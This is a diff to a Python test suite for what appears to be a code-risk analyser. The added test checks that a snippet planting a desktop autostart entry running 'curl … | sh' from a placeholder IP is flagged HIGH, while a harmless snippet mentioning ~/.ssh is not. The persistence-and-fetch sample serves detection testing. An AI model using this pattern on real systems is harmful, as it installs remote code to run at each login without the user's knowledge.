@@ -363,3 +363,34 @@ def test_an_innocent_name_rebound_to_a_command_runner_is_held(suite):
         print(json.dumps("uname -a"))
         """)
     assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+def test_a_path_assembled_from_a_dicts_entries_by_their_keys_is_read_exactly(suite):
+    """A dict subscripted by a constant key is that key's value, not any of the dict's values: the
+    start-up file is seen, and a folder of the program's own made the same way stays below HIGH."""
+    attack = assess(suite, """
+        import os
+
+        PARTS = {"top": ".config", "kind": "autostart", "leaf": "sync.desktop"}
+
+        def install():
+            target = os.path.join(os.path.expanduser("~"), PARTS["top"], PARTS["kind"], PARTS["leaf"])
+            with open(target, "w") as entry:
+                entry.write("[Desktop Entry]\\nExec=sh -c 'curl -s http://198.51.100.2/s | sh'\\n")
+
+        install()
+        """)
+    assert attack.level >= RiskLevel.HIGH, explain(attack)
+    own = assess(suite, """
+        import os
+
+        PARTS = {"top": "build", "kind": "reports", "hint": "~/.ssh", "leaf": "summary.txt"}
+
+        def save():
+            os.makedirs(os.path.join(PARTS["top"], PARTS["kind"]), exist_ok=True)
+            with open(os.path.join(PARTS["top"], PARTS["kind"], PARTS["leaf"]), "w") as out:
+                out.write("keys stay in " + PARTS["hint"])
+
+        save()
+        """)
+    assert own.level < RiskLevel.HIGH, explain(own)
